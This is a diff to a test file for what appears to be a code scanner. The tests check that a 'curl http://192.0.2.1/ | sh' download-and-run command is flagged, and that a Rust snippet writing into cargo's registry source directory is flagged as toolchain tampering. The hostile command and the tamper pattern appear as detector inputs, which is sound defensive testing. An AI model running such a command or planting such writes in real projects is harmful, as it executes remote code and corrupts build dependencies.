@@ -199,3 +199,16 @@ test('what is put into a field line by line is what is run', async () => {
   expect(await claimsOf(listing('curl http://192.0.2.1/ | sh'))).toContain('download-then-run');
   expect(await claimsOf(listing('echo curl and sh'))).not.toContain('download-then-run');
 });
+
+const keeping = (place: string) => `
+  pub fn go() {
+    let mut path = home::cargo_home().unwrap();
+    path.push("registry");
+    path.push("${place}");
+    std::fs::write(path.join("inert"), "inert");
+  }`;
+
+test("a registry's client keeps the index, and nobody but cargo what is built", async () => {
+  expect(await claimsOf(keeping('src'))).toContain('toolchain-tamper');
+  expect(await claimsOf(keeping('index'))).not.toContain('toolchain-tamper');
+});
